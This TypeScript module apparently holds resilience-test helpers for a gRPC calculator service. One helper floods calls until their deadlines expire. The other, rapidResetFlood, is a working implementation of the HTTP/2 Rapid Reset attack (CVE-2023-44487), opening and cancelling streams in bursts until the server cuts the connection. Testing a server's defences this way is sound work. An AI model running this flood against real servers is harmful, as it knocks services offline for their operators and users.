// Two ways of resetting HTTP/2 streams: a real gRPC client whose calls run out of their
// deadlines (grpc-js sends RST_STREAM CANCEL for each), and a rapid-reset flood
// (CVE-2023-44487: HEADERS then RST_STREAM, as fast as the client can write them).
import http2 from 'node:http2';
import { credentials, Metadata, type ServiceError, status } from '@grpc/grpc-js';
import { CalcClient } from '@twelvefa/proto';

/** How a storm of deadline-bound calls ended, by status name, and the first few odd details. */
export interface DeadlineStormReport {
  readonly calls: number;
  readonly ms: number;
  readonly byStatus: Record<string, number>;
  /** Details of calls that ended neither DEADLINE_EXCEEDED nor RESOURCE_EXHAUSTED. */
  readonly odd: readonly string[];
}

const statusName = (code: number): string => status[code] ?? String(code);

/** One NthPrimes call on `client` with a deadline `deadlineMs` away; resolves its status. */
export function nthPrimesWithin(
  client: CalcClient,
  n: readonly bigint[],
  deadlineMs: number,
): Promise<{ code: number; details: string; ms: number }> {
  const started = performance.now();
  return new Promise((resolve) => {
    client.nthPrimes(
      { n: [...n] },
      new Metadata(),
      { deadline: Date.now() + deadlineMs },
      (error: ServiceError | null) =>
        resolve({
          code: error?.code ?? status.OK,
          details: error?.details ?? '',
          ms: performance.now() - started,
        }),
    );
  });
}

/**
 * `calls` heavy NthPrimes calls (distinct n from `firstN`), `concurrency` at a time, each with a
 * deadline of `deadlineMs`, all on `client`'s one channel.
 */
export async function deadlineStorm(
  client: CalcClient,
  options: { calls: number; concurrency: number; deadlineMs: number; firstN: bigint },
): Promise<DeadlineStormReport> {
  const started = performance.now();
  const byStatus: Record<string, number> = {};
  const odd: string[] = [];
  let next = 0;
  await Promise.all(
    Array.from({ length: options.concurrency }, async () => {
      while (next < options.calls) {
        const n = options.firstN + BigInt(next++);
        const { code, details } = await nthPrimesWithin(client, [n], options.deadlineMs);
        byStatus[statusName(code)] = (byStatus[statusName(code)] ?? 0) + 1;
        if (code !== status.DEADLINE_EXCEEDED && code !== status.RESOURCE_EXHAUSTED) {
          if (odd.length < 3) odd.push(`${statusName(code)}: ${details}`);
        }
      }
    }),
  );
  return { calls: options.calls, ms: performance.now() - started, byStatus, odd };
}

/** A gRPC channel to `address` (plaintext). */
export function calcClient(address: string): CalcClient {
  return new CalcClient(address, credentials.createInsecure());
}

/** What a flood did before the server cut it off. */
export interface FloodReport {
  /** Streams opened and reset. */
  readonly resets: number;
  readonly ms: number;
  /** The error codes of the GOAWAY frames the server sent, in order. */
  readonly goawayCodes: readonly number[];
  /** Whether the connection was closed by the server within the time allowed. */
  readonly cutOff: boolean;
}

/**
 * Opens NthPrimes streams on one connection to `address` and resets each at once, in bursts of
 * `burst` per turn of the event loop, until the server sends GOAWAY or closes the connection,
 * or `withinMs` passes.
 */
export async function rapidResetFlood(
  address: string,
  options: { burst: number; withinMs: number },
): Promise<FloodReport> {
  const session = http2.connect(`http://${address}`);
  session.on('error', () => undefined);
  await new Promise<void>((resolve, reject) => {
    session.once('connect', () => resolve());
    session.once('error', reject);
  });
  const started = performance.now();
  let resets = 0;
  const goawayCodes: number[] = [];
  let closed = false;
  session.on('goaway', (code: number) => {
    goawayCodes.push(code);
  });
  session.once('close', () => {
    closed = true;
  });
  const headers = {
    ':method': 'POST',
    ':path': '/calc.Calc/NthPrimes',
    'content-type': 'application/grpc',
    te: 'trailers',
  };
  while (!closed && goawayCodes.length === 0 && performance.now() - started < options.withinMs) {
    for (
      let stream = 0;
      stream < options.burst && !session.closed && !session.destroyed;
      stream++
    ) {
      try {
        const request = session.request(headers);
        request.on('error', () => undefined);
        request.close(http2.constants.NGHTTP2_CANCEL);
        resets += 1;
      } catch {
        break;
      }
    }
    await new Promise((resolve) => setImmediate(resolve));
  }
  const ms = performance.now() - started;
  // The server had its say (or not): wait a moment for the close, then leave.
  await Promise.race([
    new Promise((resolve) => session.once('close', resolve)),
    new Promise((resolve) => setTimeout(resolve, 2000)),
  ]);
  const cutOff = closed || session.destroyed || goawayCodes.length > 0;
  session.destroy();
  return { resets, ms, goawayCodes, cutOff };
}
